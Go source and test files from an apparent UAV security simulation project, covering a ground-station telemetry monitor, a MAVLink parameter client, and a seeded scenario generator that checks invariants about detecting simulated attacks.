// partition from tripping the stealth-attack verdict. Call it when
// traffic resumes after a detected arrival gap, with the current
// feeder time.
func (m *Monitor) NoteLinkOutage(now time.Duration) {
	if !m.sawArrival {
		return
	}
	outage := now - m.lastArrival
	if outage < 0 {
		outage = 0
	}
	m.LinkOutages++
	if outage > m.MaxLinkSilence {
		m.MaxLinkSilence = outage
	}
	if m.sawData {
		// Shift the telemetry-silence baseline past the outage,
		// preserving only the pre-outage silence (lastArrival-lastData).
		m.lastData = now - (m.lastArrival - m.lastData)
	}
	m.lastArrival = now
}

// NoteCorrupt records a datagram the transport dropped for a failed
// integrity check — link degradation, never compromise evidence (a
// record-aligned transport with checksums cannot deliver wire damage
// as garbage).
func (m *Monitor) NoteCorrupt() { m.CorruptDrops++ }

func (m *Monitor) feedByte(b byte) {
	switch m.mode {
	case monIdle:
		switch b {
		case firmware.PulseMagic:
			m.mode = monPulse
			m.pulse = m.pulse[:0]
		case mavlink.Magic:
			m.mode = monFrame
			m.frame = mavlink.Parser{StrictLength: true}
			m.frame.Feed(b)
			m.frameN = 1
			m.frameLn = -1
		default:
			m.Garbage++
		}

	case monPulse:
		m.pulse = append(m.pulse, b)
		if len(m.pulse) == firmware.PulseSize-1 {
			seq, gyro, heading := m.pulse[0], m.pulse[1], m.pulse[2]
			if m.started && seq != m.expectSeq {
				if m.TolerateLinkLoss {
					m.LinkGaps++
				} else {
					m.SeqGaps++
				}
			}
			m.started = true
			m.expectSeq = seq + 1
			m.LastGyro = gyro
			m.LastHeading = heading
			m.Pulses++
			m.mode = monIdle
		}

	case monFrame:
		f := m.frame.Feed(b)
		m.frameN++
		if m.frameN == 2 {
			m.frameLn = 6 + int(b) + 2
		}
		if f != nil {
			m.handleFrame(f)
			m.mode = monIdle
			return
		}
		if m.frameLn > 0 && m.frameN >= m.frameLn {
			// Frame fully consumed but rejected (checksum/length).
			m.HeartbeatErrors++
			m.mode = monIdle
		}
	}
}

func (m *Monitor) handleFrame(f *mavlink.Frame) {
	switch f.MsgID {
	case mavlink.MsgIDHeartbeat:
		hb, err := mavlink.UnmarshalHeartbeat(f.Payload)
		if err != nil {
			m.HeartbeatErrors++
			return
		}
		m.Heartbeats++
		m.LastStatus = hb.SystemStatus
	case mavlink.MsgIDRawIMU:
		imu, err := mavlink.UnmarshalRawIMU(f.Payload)
		if err != nil {
			m.HeartbeatErrors++
			return
		}
		m.RawIMUs++
		m.LastXgyro = imu.Xgyro
	case mavlink.MsgIDParamValue:
		pv, err := mavlink.UnmarshalParamValue(f.Payload)
		if err != nil {
			m.HeartbeatErrors++
			return
		}
		m.ParamEchoes++
		m.LastEcho = pv
	}
}

// CompromiseDetected applies the ground station's detection rule: any
// garbage or corrupt heartbeat on the link, a pulse sequence
// discontinuity (unless attributed to link loss, see TolerateLinkLoss),
// a non-active MAV_STATE, or silence longer than the threshold.
func (m *Monitor) CompromiseDetected(silenceThreshold time.Duration) bool {
	if m.Garbage > 0 || m.SeqGaps > 0 || m.HeartbeatErrors > 0 {
		return true
	}
	if m.Heartbeats > 0 && m.LastStatus != mavlink.StateActive {
		return true
	}
	return m.VehicleSilent(silenceThreshold)
}

// VehicleSilent reports the paper's compromise signal on its own: the
// vehicle stopped producing telemetry for longer than the threshold.
// Unlike sequence gaps, silence survives a lossy link — a healthy
// vehicle keeps transmitting through packet loss, so prolonged silence
// (measured against the feeder's clock) means the vehicle itself, not
// the link, went quiet.
func (m *Monitor) VehicleSilent(threshold time.Duration) bool {
	return m.MaxSilence > threshold
}

// LinkSilent reports whether the link itself was observed dead (no
// arrivals) for longer than the threshold.
func (m *Monitor) LinkSilent(threshold time.Duration) bool {
	return m.MaxLinkSilence > threshold
}

// Health is the monitor's graded verdict: instead of the binary
// compromised/clean answer, it separates the three failure identities
// a fleet operator must react to differently — a dead link (redial,
// don't scramble), a dead or wedged vehicle (the paper's compromise
// signal; the master's watchdog is already recovering it), and a
// degraded-but-working link (keep flying, expect gaps).
type Health int

// Health states, ordered from best to worst.
const (
	// HealthOK: telemetry flowing, no anomalies.
	HealthOK Health = iota
	// HealthDegraded: telemetry flowing through an impaired link —
	// datagram loss, corruption drops or outages occurred, but nothing
	// implicates the vehicle.
	HealthDegraded
	// HealthLinkDead: datagrams stopped arriving entirely for longer
	// than the threshold. Deliberately NOT a compromise verdict: a dead
	// link is indistinguishable from a dead ground radio.
	HealthLinkDead
	// HealthVehicleDead: the link was alive (datagrams arriving) but
	// the vehicle produced no telemetry beyond the threshold — the
	// paper's watchdog-visible failure signature.
	HealthVehicleDead
	// HealthCompromised: positive compromise evidence — garbage bytes,
	// strict-mode sequence gaps, corrupt frames, or a non-active
	// MAV_STATE.
	HealthCompromised
)

func (h Health) String() string {
	switch h {
	case HealthOK:
		return "ok"
	case HealthDegraded:
		return "degraded"
	case HealthLinkDead:
		return "link-dead"
	case HealthVehicleDead:
		return "vehicle-dead"
	case HealthCompromised:
		return "compromised"
	}
	return "unknown"
}

// Classify grades the monitor's whole observation history (worst state
// seen, not the instantaneous state): positive compromise evidence
// first, then vehicle silence, then link death, then degradation.
func (m *Monitor) Classify(silenceThreshold time.Duration) Health {
	if m.Garbage > 0 || m.SeqGaps > 0 || m.HeartbeatErrors > 0 {
		return HealthCompromised
	}
	if m.Heartbeats > 0 && m.LastStatus != mavlink.StateActive {
		return HealthCompromised
	}
	if m.VehicleSilent(silenceThreshold) {
		return HealthVehicleDead
	}
	if m.LinkSilent(silenceThreshold) {
		return HealthLinkDead
	}
	if m.LinkGaps > 0 || m.CorruptDrops > 0 || m.LinkOutages > 0 {
		return HealthDegraded
	}
	return HealthOK
}
