package gcs

import (
	"errors"
	"time"

	"mavr/internal/mavlink"
)

// ParamClient implements the ground-station side of the MAVLink
// parameter protocol against the vehicle: send PARAM_SET, wait for the
// PARAM_VALUE acknowledgement, retransmit on timeout.
type ParamClient struct {
	g *GroundStation
	// Timeout before a retransmission.
	Timeout time.Duration
	// Retries bounds the retransmissions per request.
	Retries int
}

// NewParamClient returns a client with ArduPilot-style defaults.
func NewParamClient(g *GroundStation) *ParamClient {
	return &ParamClient{g: g, Timeout: 300 * time.Millisecond, Retries: 3}
}

// ErrParamTimeout is returned when every retransmission went
// unacknowledged.
var ErrParamTimeout = errors.New("gcs: parameter write unacknowledged")

// Set writes a named parameter and waits for the matching echo,
// retransmitting per the protocol. It returns the acknowledged value.
func (c *ParamClient) Set(name string, value float32) (*mavlink.ParamValue, error) {
	for attempt := 0; attempt <= c.Retries; attempt++ {
		before := c.g.Mon.ParamEchoes
		c.g.SetParam(name, value)
		deadline := c.g.Sys.Now() + c.Timeout
		for c.g.Sys.Now() < deadline {
			if err := c.g.Step(10 * time.Millisecond); err != nil {
				return nil, err
			}
			if c.g.Mon.ParamEchoes > before &&
				c.g.Mon.LastEcho != nil && c.g.Mon.LastEcho.ParamID == name {
				return c.g.Mon.LastEcho, nil
			}
		}
	}
	return nil, ErrParamTimeout
}
