package gcs_test

// Retry/timeout coverage for ParamClient beyond the happy path: the
// error identity, the retransmission window arithmetic against a dead
// vehicle, and a slow-ack round where the first window expires and a
// retransmission salvages the write.

import (
	"errors"
	"testing"
	"time"

	"mavr/internal/board"
	"mavr/internal/gcs"
)

func deadVehicleStation(t *testing.T) *gcs.GroundStation {
	t.Helper()
	img := testImage(t)
	sys := board.NewSystem(board.SystemConfig{Master: board.MasterConfig{Seed: 1}})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	// Never booted: the application processor spins through empty flash
	// and will never acknowledge anything.
	return gcs.NewGroundStation(sys)
}

// The exhausted-retries failure is the sentinel error, matchable with
// errors.Is.
func TestParamClientTimeoutErrorIdentity(t *testing.T) {
	c := gcs.NewParamClient(deadVehicleStation(t))
	c.Timeout = 30 * time.Millisecond
	c.Retries = 1
	_, err := c.Set("X", 1)
	if !errors.Is(err, gcs.ErrParamTimeout) {
		t.Fatalf("err = %v, want ErrParamTimeout", err)
	}
}

// Against a dead vehicle the client spends one full window per attempt:
// total simulated time is bounded below by (Retries+1)*Timeout and
// above by that plus one polling step of slack per attempt.
func TestParamClientRetryWindowAccounting(t *testing.T) {
	g := deadVehicleStation(t)
	c := gcs.NewParamClient(g)
	c.Timeout = 40 * time.Millisecond
	c.Retries = 2
	start := g.Sys.Now()
	if _, err := c.Set("X", 1); err == nil {
		t.Fatal("ack from a dead vehicle")
	}
	elapsed := g.Sys.Now() - start
	attempts := time.Duration(c.Retries + 1)
	min := attempts * c.Timeout
	max := attempts * (c.Timeout + 10*time.Millisecond)
	if elapsed < min || elapsed > max {
		t.Errorf("elapsed %v outside retry window [%v, %v]", elapsed, min, max)
	}
}

// A round trip longer than the timeout window forces retransmission;
// the retries must salvage the write rather than fail it, and the
// duplicate PARAM_SETs each draw their own echo (the protocol is
// idempotent, not deduplicating). The slow round trip is real: a noise
// backlog on the half-duplex uplink serializes ahead of the PARAM_SET
// at link baud, delaying its arrival by many polling windows.
func TestParamClientRetryThenSuccess(t *testing.T) {
	img := testImage(t)
	g := unprotectedStation(t, img)
	fly(t, g, 50*time.Millisecond)
	g.Sys.SendToUAV(make([]byte, 1024)) // ~180ms of uplink serialization
	c := gcs.NewParamClient(g)
	c.Timeout = time.Millisecond // expires after a single 10ms poll
	c.Retries = 200
	echo, err := c.Set("RATE_PIT_P", 0)
	if err != nil {
		t.Fatalf("retries did not salvage a slow ack: %v", err)
	}
	if echo.ParamID != "RATE_PIT_P" {
		t.Errorf("acked id %q", echo.ParamID)
	}
	// Drain the late echoes of the extra retransmissions.
	before := g.Mon.ParamEchoes
	fly(t, g, 300*time.Millisecond)
	if g.Mon.ParamEchoes <= before {
		t.Error("retransmitted PARAM_SETs produced no additional echoes")
	}
	if g.Mon.CompromiseDetected(silenceThreshold) {
		t.Error("benign retransmission traffic tripped the monitor")
	}
}

// Zero retries with a generous window still succeeds against a live
// vehicle: a single round trip fits well inside the default timeout.
func TestParamClientSingleAttemptSucceeds(t *testing.T) {
	img := testImage(t)
	g := unprotectedStation(t, img)
	fly(t, g, 50*time.Millisecond)
	c := gcs.NewParamClient(g)
	c.Retries = 0
	if _, err := c.Set("RATE_YAW_P", 2); err != nil {
		t.Fatalf("single attempt failed: %v", err)
	}
}
