package scengen

import (
	"testing"
	"time"

	"mavr/internal/scenario"
)

// fixture builders — synthetic but shape-correct traces, mirroring the
// golden-gate style of scenario's own tests: every invariant gets a
// passing fixture and a hand-mutated violating twin.

func ms(d int64) int64 { return d * int64(time.Millisecond) }

func cleanVerdict() *scenario.Verdict {
	return &scenario.Verdict{
		BoardAlive: true,
		Final:      scenario.Counters{Pulses: 200, Heartbeats: 20, RawIMUs: 20},
	}
}

// baseTrace is a minimal well-formed trace: start, telemetry deltas,
// one checkpoint, verdict.
func baseTrace(v *scenario.Verdict) []scenario.Record {
	cp := v.Final
	cp.Pulses /= 2
	cp.Heartbeats /= 2
	cp.RawIMUs /= 2
	return []scenario.Record{
		{T: 0, Kind: "start", Note: "fixture"},
		{T: ms(10), Kind: "heartbeat", N: 5},
		{T: ms(500), Kind: "checkpoint", Counters: &cp},
		{T: ms(1000), Kind: "verdict", Verdict: v},
	}
}

// withInject splices an inject record after the start record.
func withInject(recs []scenario.Record, t int64, note string) []scenario.Record {
	out := append([]scenario.Record(nil), recs[:1]...)
	out = append(out, scenario.Record{T: t, Kind: "inject", Note: note, N: 64, Payload: "00decafc0ffee000"})
	return append(out, recs[1:]...)
}

func names(ds []*scenario.Divergence) []string {
	var out []string
	for _, d := range ds {
		out = append(out, d.Invariant)
	}
	return out
}

func hasViolation(ds []*scenario.Divergence, name string) bool {
	for _, d := range ds {
		if d.Invariant == name {
			return true
		}
	}
	return false
}

func TestInvariantFixtures(t *testing.T) {
	unprotV2 := scenario.Spec{
		Board: scenario.BoardUnprotected, Seed: 1, Run: time.Second,
		Injections: []scenario.Injection{{At: 100 * time.Millisecond, Kind: scenario.InjectV2, Value: 0x40}},
	}
	mavrV2 := unprotV2
	mavrV2.Board = scenario.BoardMAVR

	cases := []struct {
		invariant string
		spec      scenario.Spec
		pass      func() []scenario.Record
		violate   func([]scenario.Record) []scenario.Record
	}{
		{
			invariant: "trace-well-formed",
			spec:      scenario.Spec{Board: scenario.BoardUnprotected, Run: time.Second},
			pass:      func() []scenario.Record { return baseTrace(cleanVerdict()) },
			violate: func(r []scenario.Record) []scenario.Record {
				r[0].Kind = "heartbeat" // no start record
				return r
			},
		},
		{
			invariant: "trace-well-formed",
			spec:      scenario.Spec{Board: scenario.BoardUnprotected, Run: time.Second},
			pass:      func() []scenario.Record { return baseTrace(cleanVerdict()) },
			violate: func(r []scenario.Record) []scenario.Record {
				r[2].T = ms(5) // time runs backwards
				return r
			},
		},
		{
			invariant: "stealthy-attack-invisible",
			spec:      unprotV2,
			pass: func() []scenario.Record {
				v := cleanVerdict()
				v.AttackLanded = true
				v.GyroCfg = 0x40
				return withInject(baseTrace(v), ms(100), "v2 write")
			},
			violate: func(r []scenario.Record) []scenario.Record {
				r[len(r)-1].Verdict.Compromised = true // stealthy attack flagged
				return r
			},
		},
		{
			invariant: "stealthy-never-silent",
			spec:      unprotV2,
			pass: func() []scenario.Record {
				v := cleanVerdict()
				v.AttackLanded = true
				return withInject(baseTrace(v), ms(100), "v2 write")
			},
			violate: func(r []scenario.Record) []scenario.Record {
				r[len(r)-1].Verdict.VehicleSilent = true
				return r
			},
		},
		{
			invariant: "crash-visible",
			spec: scenario.Spec{
				Board: scenario.BoardUnprotected, Run: time.Second,
				Injections: []scenario.Injection{{At: 100 * time.Millisecond, Kind: scenario.InjectV1, Value: 0x7F}},
			},
			pass: func() []scenario.Record {
				v := cleanVerdict()
				v.BoardAlive = false
				v.VehicleSilent = true
				v.Compromised = true
				v.AttackLanded = true
				v.Final.MaxSilence = ms(890)
				return withInject(baseTrace(v), ms(100), "v1 write")
			},
			violate: func(r []scenario.Record) []scenario.Record {
				r[len(r)-1].Verdict.VehicleSilent = false // dead board, no alarm
				return r
			},
		},
		{
			invariant: "stale-chain-neutralized",
			spec:      mavrV2,
			pass: func() []scenario.Record {
				v := cleanVerdict()
				v.Compromised = true
				v.VehicleSilent = true
				v.FailuresDetected = 1
				v.Final.Epoch = 2
				v.Final.MaxSilence = ms(300)
				r := withInject(baseTrace(v), ms(100), "v2 write")
				r[len(r)-2].Counters.Epoch = 1
				return r
			},
			violate: func(r []scenario.Record) []scenario.Record {
				r[len(r)-1].Verdict.AttackLanded = true // stale chain landed
				return r
			},
		},
		{
			invariant: "silence-begets-detection",
			spec:      mavrV2,
			pass: func() []scenario.Record {
				v := cleanVerdict()
				v.Compromised = true
				v.VehicleSilent = true
				v.FailuresDetected = 1
				v.Final.Epoch = 1
				v.Final.MaxSilence = ms(300)
				return baseTrace(v)
			},
			violate: func(r []scenario.Record) []scenario.Record {
				r[len(r)-1].Verdict.FailuresDetected = 0 // GCS alarmed, master blind
				return r
			},
		},
		{
			invariant: "recovery-follows-detection",
			spec:      scenario.Spec{Board: scenario.BoardMAVR, App: "testapp", Run: 2 * time.Second},
			pass: func() []scenario.Record {
				v := cleanVerdict()
				v.FailuresDetected = 1
				v.Reflashes = 1
				v.Final.Epoch = 2
				recs := baseTrace(v)
				recs[len(recs)-1].T = ms(2000)
				// start, hb, failure-detected(120) ... checkpoint(500),
				// reflash(680), verdict(2000) — time stays monotone.
				out := append([]scenario.Record(nil), recs[:2]...)
				out = append(out, scenario.Record{T: ms(120), Kind: "failure-detected", Note: "watchdog"})
				out = append(out, recs[2])
				out = append(out, scenario.Record{T: ms(680), Kind: "reflash", Note: "reprogrammed"})
				out = append(out, recs[3])
				out[3].Counters.Epoch = 2
				return out
			},
			violate: func(r []scenario.Record) []scenario.Record {
				// Remove the reflash: detection answered by nothing.
				var out []scenario.Record
				for _, rec := range r {
					if rec.Kind == "reflash" {
						continue
					}
					out = append(out, rec)
				}
				return out
			},
		},
		{
			invariant: "pure-link-faults-blameless",
			spec: scenario.Spec{
				Board: scenario.BoardUnprotected, Run: time.Second,
				Link: scenario.LinkSpec{DropRate: 0.2},
			},
			pass: func() []scenario.Record {
				v := cleanVerdict()
				v.Final.LinkGaps = 7
				v.Health = "degraded"
				return baseTrace(v)
			},
			violate: func(r []scenario.Record) []scenario.Record {
				r[len(r)-1].Verdict.Compromised = true // link loss blamed on attacker
				return r
			},
		},
		{
			invariant: "quiet-sky-clean",
			spec:      scenario.Spec{Board: scenario.BoardUnprotected, Run: time.Second},
			pass:      func() []scenario.Record { return baseTrace(cleanVerdict()) },
			violate: func(r []scenario.Record) []scenario.Record {
				r[len(r)-1].Verdict.Final.Garbage = 3 // garbage on a perfect link
				return r
			},
		},
		{
			invariant: "epoch-accounting",
			spec:      scenario.Spec{Board: scenario.BoardMAVR, Run: time.Second},
			pass: func() []scenario.Record {
				v := cleanVerdict()
				v.Final.Epoch = 1
				r := baseTrace(v)
				r[len(r)-2].Counters.Epoch = 1
				return r
			},
			violate: func(r []scenario.Record) []scenario.Record {
				r[len(r)-1].Verdict.Final.Epoch = 0 // epoch regressed
				return r
			},
		},
		{
			invariant: "epoch-accounting",
			spec:      scenario.Spec{Board: scenario.BoardUnprotected, Run: time.Second},
			pass:      func() []scenario.Record { return baseTrace(cleanVerdict()) },
			violate: func(r []scenario.Record) []scenario.Record {
				r[len(r)-2].Counters.Epoch = 1 // epoch without a master
				return r
			},
		},
		{
			invariant: "counters-monotone",
			spec:      scenario.Spec{Board: scenario.BoardUnprotected, Run: time.Second},
			pass:      func() []scenario.Record { return baseTrace(cleanVerdict()) },
			violate: func(r []scenario.Record) []scenario.Record {
				r[len(r)-1].Verdict.Final.Pulses = 3 // fewer pulses than the checkpoint
				return r
			},
		},
		{
			invariant: "injections-recorded",
			spec:      unprotV2,
			pass: func() []scenario.Record {
				v := cleanVerdict()
				v.AttackLanded = true
				return withInject(baseTrace(v), ms(100), "v2 write")
			},
			violate: func(r []scenario.Record) []scenario.Record {
				var out []scenario.Record
				for _, rec := range r {
					if rec.Kind == "inject" {
						continue // the planned injection vanished from the trace
					}
					out = append(out, rec)
				}
				return out
			},
		},
	}

	for _, c := range cases {
		t.Run(c.invariant, func(t *testing.T) {
			// The invariant must actually apply to the fixture spec.
			applies := false
			for _, inv := range Invariants() {
				if inv.Name == c.invariant && inv.Applies(c.spec.Effective()) {
					applies = true
				}
			}
			if !applies {
				t.Fatalf("fixture spec not in %s's domain", c.invariant)
			}
			pass := c.pass()
			if ds := CheckAll(c.spec, pass); hasViolation(ds, c.invariant) {
				t.Fatalf("passing fixture flagged: %v", names(ds))
			}
			bad := c.violate(c.pass())
			ds := CheckAll(c.spec, bad)
			if !hasViolation(ds, c.invariant) {
				t.Fatalf("mutated fixture not flagged by %s (got %v)", c.invariant, names(ds))
			}
			for _, d := range ds {
				if d.Invariant == c.invariant && d.Detail == "" {
					t.Errorf("violation of %s carries no detail", c.invariant)
				}
			}
		})
	}
}

// Every invariant in the library must have at least one violating
// fixture above — a new invariant without a self-test fails here, the
// same way a new scenario without a golden trace fails the golden gate.
func TestEveryInvariantHasAFixture(t *testing.T) {
	covered := map[string]bool{
		"trace-well-formed": true, "stealthy-attack-invisible": true,
		"stealthy-never-silent": true, "crash-visible": true,
		"stale-chain-neutralized": true, "silence-begets-detection": true,
		"recovery-follows-detection": true, "pure-link-faults-blameless": true,
		"quiet-sky-clean": true, "epoch-accounting": true,
		"counters-monotone": true, "injections-recorded": true,
	}
	for _, inv := range Invariants() {
		if !covered[inv.Name] {
			t.Errorf("invariant %s has no violating fixture in TestInvariantFixtures", inv.Name)
		}
		if inv.Claim == "" {
			t.Errorf("invariant %s has no claim mapping", inv.Name)
		}
	}
}

// End-to-end: generated scenarios, actually run, satisfy the whole
// library. A small deterministic slice of the CI sweep.
func TestGeneratedScenariosSatisfyInvariants(t *testing.T) {
	if testing.Short() {
		t.Skip("runs full scenario simulations")
	}
	for seed := int64(1); seed <= 6; seed++ {
		spec := Generate(seed)
		res, err := scenario.Run(spec)
		if err != nil {
			t.Fatalf("seed %d (%s/%s): %v", seed, spec.Board, spec.App, err)
		}
		if ds := CheckAll(spec, res.Records); len(ds) > 0 {
			for _, d := range ds {
				t.Errorf("seed %d (%s/%s): %s", seed, spec.Board, spec.App, d)
			}
		}
	}
}
