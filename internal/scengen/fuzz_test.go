package scengen

import (
	"bytes"
	"encoding/json"
	"testing"

	"mavr/internal/scenario"
)

// FuzzSpecRoundTrip: every generated Spec must survive the JSON round
// trip byte-identically — a Spec written to disk by mavr-scengen gen
// and read back by mavr-scengen run is the same experiment, and the
// generator itself stays deterministic under arbitrary seeds.
func FuzzSpecRoundTrip(f *testing.F) {
	f.Add(int64(0))
	f.Add(int64(1))
	f.Add(int64(42))
	f.Add(int64(-7))
	f.Add(int64(1) << 62)
	f.Fuzz(func(t *testing.T, seed int64) {
		spec := Generate(seed)
		b1, err := json.Marshal(spec)
		if err != nil {
			t.Fatal(err)
		}
		var back scenario.Spec
		if err := json.Unmarshal(b1, &back); err != nil {
			t.Fatalf("generated spec does not parse: %v\n%s", err, b1)
		}
		b2, err := json.Marshal(back)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(b1, b2) {
			t.Fatalf("round trip not byte-identical:\n%s\n%s", b1, b2)
		}
		// And the generator is a pure function of the seed.
		again, err := json.Marshal(Generate(seed))
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(b1, again) {
			t.Fatalf("Generate(%d) not deterministic", seed)
		}
	})
}
