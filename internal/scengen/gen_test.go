package scengen

import (
	"encoding/json"
	"runtime"
	"sync"
	"testing"
	"time"

	"mavr/internal/scenario"
)

func specJSON(t *testing.T, s scenario.Spec) string {
	t.Helper()
	b, err := json.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// Same seed, same Spec — byte-identical JSON across repeated calls and
// across concurrent goroutines (the -race run proves the generator
// shares no hidden state).
func TestGenerateDeterministic(t *testing.T) {
	const seeds = 100
	want := make([]string, seeds)
	for i := range want {
		want[i] = specJSON(t, Generate(int64(i)))
	}
	for i := range want {
		if got := specJSON(t, Generate(int64(i))); got != want[i] {
			t.Fatalf("seed %d: second call differs:\n%s\n%s", i, want[i], got)
		}
	}
	workers := runtime.GOMAXPROCS(0)
	if workers < 2 {
		workers = 2
	}
	var wg sync.WaitGroup
	errs := make(chan string, workers)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < seeds; i++ {
				b, err := json.Marshal(Generate(int64(i)))
				if err != nil || string(b) != want[i] {
					errs <- want[i]
					return
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	if bad, ok := <-errs; ok {
		t.Fatalf("concurrent generation diverged from %s", bad)
	}
}

// A thousand consecutive seeds must explore the sampling space, not
// collapse onto a handful of Specs: after stripping the seed-derived
// name and seed, the overwhelming majority must still be distinct.
func TestGenerateSeedCollisions(t *testing.T) {
	const seeds = 1000
	distinct := make(map[string]int64, seeds)
	collisions := 0
	for i := int64(1); i <= seeds; i++ {
		s := Generate(i)
		s.Name = ""
		s.Seed = 0
		key := specJSON(t, s)
		if _, dup := distinct[key]; dup {
			collisions++
		} else {
			distinct[key] = i
		}
	}
	if collisions > 100 {
		t.Errorf("%d of %d seeds collided after name/seed stripping (%d distinct shapes)", collisions, seeds, len(distinct))
	}
}

// Structural validity of every generated Spec: the guarantees the
// invariant library's Applies guards rely on.
func TestGenerateStructuralValidity(t *testing.T) {
	boards := map[string]int{}
	kinds := map[string]int{}
	for i := int64(1); i <= 1000; i++ {
		s := Generate(i)
		boards[s.Board]++
		if s.Run < 400*time.Millisecond || s.Run > 3*time.Second {
			t.Fatalf("seed %d: run %v out of range", i, s.Run)
		}
		if s.Run%(50*time.Millisecond) != 0 {
			t.Fatalf("seed %d: run %v not quantized to 50ms", i, s.Run)
		}
		seenAddr := map[uint16]bool{}
		for j, inj := range s.Injections {
			kinds[inj.Kind]++
			if inj.Kind == scenario.InjectV1 && j != len(s.Injections)-1 {
				t.Fatalf("seed %d: crash-grade v1 is not the last injection", i)
			}
			if j > 0 {
				if gap := inj.At - s.Injections[j-1].At; gap < 150*time.Millisecond {
					t.Fatalf("seed %d: injections %d/%d only %v apart", i, j-1, j, gap)
				}
			}
			tail := 600 * time.Millisecond
			if inj.Kind == scenario.InjectV3 {
				tail = time.Second
			}
			if inj.At+tail > s.Run {
				t.Fatalf("seed %d: injection %d at %v leaves <%v of a %v run", i, j, inj.At, tail, s.Run)
			}
			if seenAddr[inj.Addr] {
				t.Fatalf("seed %d: duplicate injection address 0x%04X", i, inj.Addr)
			}
			seenAddr[inj.Addr] = true
			if inj.Value < 0x10 {
				t.Fatalf("seed %d: injection value 0x%02X could collide with zeroed memory", i, inj.Value)
			}
		}
	}
	for _, b := range []string{scenario.BoardUnprotected, scenario.BoardMAVR, scenario.BoardSoftwareOnly} {
		if boards[b] == 0 {
			t.Errorf("board mode %q never sampled", b)
		}
	}
	for _, k := range []string{scenario.InjectV1, scenario.InjectV2, scenario.InjectV3, scenario.InjectProbe, scenario.InjectSynth} {
		if kinds[k] == 0 {
			t.Errorf("injection kind %q never sampled", k)
		}
	}
}

// The stream itself is frozen: a changed constant or draw order shows
// up here before it silently re-shuffles every generated scenario.
func TestStreamFrozen(t *testing.T) {
	st := NewStream(1)
	got := []uint64{st.Uint64(), st.Uint64(), st.Uint64()}
	st2 := NewStream(1)
	for i, w := range got {
		if g := st2.Uint64(); g != w {
			t.Fatalf("draw %d: %d != %d", i, g, w)
		}
	}
	if NewStream(1).Uint64() == NewStream(2).Uint64() {
		t.Error("adjacent seeds produced identical first draws")
	}
}
