package scengen

import (
	"testing"
	"time"

	"mavr/internal/scenario"
)

// The real differential property: the same Spec on unprotected vs MAVR
// boards, quiet sky and under link faults, must be
// observation-equivalent after normalization.
func TestDifferentialPairEquivalent(t *testing.T) {
	if testing.Short() {
		t.Skip("runs full scenario simulations")
	}
	for _, spec := range []scenario.Spec{
		{Name: "diff-quiet", Seed: 3, Run: 1200 * time.Millisecond},
		{Name: "diff-lossy", Seed: 5, Run: 1200 * time.Millisecond, Link: scenario.LinkSpec{DropRate: 0.1}},
		{Name: "diff-attacked", Seed: 7, Run: 1500 * time.Millisecond,
			Injections: []scenario.Injection{{At: 400 * time.Millisecond, Kind: scenario.InjectV2, Value: 0x40}}},
	} {
		d, err := DifferentialPair(spec)
		if err != nil {
			t.Fatalf("%s: %v", spec.Name, err)
		}
		if d != nil {
			t.Errorf("%s: defense-independent cores diverged:\n%s", spec.Name, d)
		}
	}
}

// The comparator itself must catch a doctored pair and report it in
// the shared Divergence shape.
func TestCompareDifferentialFlagsDoctoredTrace(t *testing.T) {
	mk := func() []scenario.Record {
		return []scenario.Record{
			{T: 0, Kind: "start", Note: "a"},
			{T: ms(100), Kind: "boot", Note: "application started"},
			{T: ms(110), Kind: "heartbeat", N: 5},
			{T: ms(600), Kind: "checkpoint", Counters: &scenario.Counters{Pulses: 50, Epoch: 1, MaxSilence: ms(20)}},
			{T: ms(1000), Kind: "verdict", Verdict: &scenario.Verdict{BoardAlive: true}},
		}
	}
	unprot := mk()
	// The unprotected twin has no boot record, no epoch, and runs from
	// T=0 — normalization must erase exactly those differences.
	unprot = append(unprot[:1], unprot[2:]...)
	for i := range unprot {
		unprot[i].T -= ms(100)
	}
	unprot[0].T = 0
	unprot[0].Kind = "start"
	unprot[1].Kind = "heartbeat"
	if c := unprot[2].Counters; c != nil {
		cc := *c
		cc.Epoch = 0
		cc.MaxSilence = ms(5)
		unprot[2].Counters = &cc
	}
	if d := CompareDifferential(unprot, mk()); d != nil {
		t.Fatalf("normalization did not erase defense-attributable differences:\n%s", d)
	}

	// Doctor the mavr side: a telemetry delta the unprotected twin
	// never saw.
	doctored := mk()
	doctored[2].N = 6
	d := CompareDifferential(unprot, doctored)
	if d == nil {
		t.Fatal("doctored telemetry not flagged")
	}
	if d.Invariant != InvariantDifferential {
		t.Errorf("divergence invariant = %q, want %q", d.Invariant, InvariantDifferential)
	}
	if d.GotKind != "heartbeat" {
		t.Errorf("divergence GotKind = %q, want heartbeat", d.GotKind)
	}
}

// Normalization drops everything from the first injected packet on —
// post-attack behaviour is the detection story, not the differential
// one.
func TestNormalizeDifferentialTruncatesAtInject(t *testing.T) {
	recs := []scenario.Record{
		{T: 0, Kind: "start"},
		{T: ms(10), Kind: "heartbeat", N: 5},
		{T: ms(200), Kind: "inject", Note: "v2", N: 64, Payload: "feed"},
		{T: ms(300), Kind: "heartbeat", N: 99},
		{T: ms(1000), Kind: "verdict", Verdict: &scenario.Verdict{}},
	}
	got := NormalizeDifferential(recs)
	if len(got) != 1 || got[0].Kind != "heartbeat" || got[0].N != 5 {
		t.Fatalf("normalized = %+v, want the single pre-attack heartbeat", got)
	}
}
