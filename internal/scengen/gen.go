// Package scengen is the generative layer over the scenario harness:
// a seeded Spec generator that samples the scenario space (board mode,
// firmware profile, defense timing, link and chaos schedules, timed
// attack injections), a library of machine-checked trace invariants
// that every generated run must satisfy, and a differential comparator
// that pairs the same seed on an unprotected and a MAVR board and
// demands the traces differ only in defense-attributable records.
//
// Where the golden traces in testdata/golden pin seven hand-picked
// scenarios byte-for-byte, scengen pins the *property surface*: any
// seed, drawn from a space the golden set never visits, must still
// satisfy the paper's claims (stealthy attacks are invisible on
// unprotected boards, every stale chain is neutralized by the
// randomized layout, pure link faults never produce compromise
// evidence, detection begets recovery). Like everything downstream of
// a Spec, Generate is a pure function: the same seed yields a
// byte-identical Spec on any machine, under -race, at any GOMAXPROCS
// (this package is in the determinism vettool's enforced set).
package scengen

import (
	"fmt"
	"time"

	"mavr/internal/firmware"
	"mavr/internal/scenario"
)

// Stream is a SplitMix64 sequence — the package's only randomness
